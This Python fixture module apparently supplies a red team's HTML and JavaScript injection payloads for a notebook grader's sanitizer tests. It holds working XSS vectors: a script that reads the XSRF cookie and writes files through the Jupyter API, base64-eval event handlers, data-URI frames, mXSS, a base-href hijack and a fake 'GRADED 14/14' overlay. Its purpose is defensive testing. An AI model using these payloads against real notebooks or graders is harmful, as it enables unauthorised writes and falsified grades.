"""The red team's HTML and JavaScript payloads (shared/reviews/grading-redteam.md, break 1) and
variants of ours: used by the sanitizer's unit tests and by the browser test (not a test
module).
"""

import base64
import json

PAYLOAD_JS = """(function(){var t=%s;
var x=(document.cookie.match(/_xsrf=([^;]+)/)||[])[1]||"";
fetch(location.origin+"/api/contents/PWNED_"+t+".txt",{method:"PUT",credentials:"same-origin",
 headers:{"X-XSRFToken":x,"Content-Type":"application/json"},
 body:JSON.stringify({type:"file",format:"text",content:"pwned by "+t})});
document.title="PWNED "+t;alert("PWNED "+t);})()"""


def js(tag):
    """JavaScript that, if it ever runs, writes PWNED_<tag>.txt through the Jupyter API."""
    return PAYLOAD_JS % json.dumps(tag)


def ev(tag):
    """The payload as an attribute value or a URL body: no quotes, no spaces."""
    return f"eval(atob('{base64.b64encode(js(tag).encode()).decode()}'))"


def b64(text):
    return base64.b64encode(text.encode()).decode()


def tiny_png():
    """A 1x1 PNG (valid, so an onload in its tag would fire)."""
    import struct
    import zlib

    def chunk(kind, data):
        body = kind + data
        return struct.pack(">I", len(data)) + body + struct.pack(">I", zlib.crc32(body))

    ihdr = struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0)
    raw = chunk(b"IHDR", ihdr) + chunk(b"IDAT", zlib.compress(b"\0\xff\0\0")) + chunk(b"IEND", b"")
    return base64.b64encode(b"\x89PNG\r\n\x1a\n" + raw).decode()


def html_payloads():
    """``display(HTML(...))`` payloads, one tag each."""
    return {
        "script": f"<script>{js('script')}</script>",
        "img": f'<img src=x onerror="{ev("img")}">',
        "svg_onload": f'<svg onload="{ev("svg_onload")}"><circle r="5"/></svg>',
        "svg_script": f"<svg><script>{js('svg_script')}</script></svg>",
        "details": f'<details open ontoggle="{ev("details")}"><summary>s</summary>d</details>',
        "iframe": f'<iframe srcdoc="<script>{js("iframe")}</script>"></iframe>',
        "object": f'<object data="data:text/html;base64,{b64("<script>" + js("object") + "</script>")}"></object>',
        "embed": f'<embed src="data:text/html;base64,{b64("<script>" + js("embed") + "</script>")}">',
        "form": '<form action="/api/contents/PWNED_form.txt" method="post">'
        '<button id="pwn-form">Save the grade</button></form>',
        "meta": f'<meta http-equiv="refresh" content="0;url=javascript:{ev("meta")}">',
        "handler_only": f'<p onclick="{ev("onclick")}" onmouseover="{ev("onmouseover")}">hover</p>',
        "base": '<base href="http://127.0.0.2:9/">',
        "jslink": f'<a class="pwn-link" href="javascript:{ev("jslink")}">Open my plot</a>',
        "mxss": f'<math><mtext><table><mglyph><style><img src=x onerror="{ev("mxss")}">',
        "overlay": '<div id="pwn-overlay" style="position:fixed;top:0;left:0;width:100vw;'
        'height:100vh;z-index:99999;background:rgba(255,0,0,.6)">GRADED 14/14</div>',
        "class_overlay": '<div class="navbar-fixed-top modal-backdrop in" id="pwn-class" '
        'style="height:100vh">CLASS OVERLAY</div>',
        "style": "<style>.score, textarea, body{display:none !important}</style>",
    }
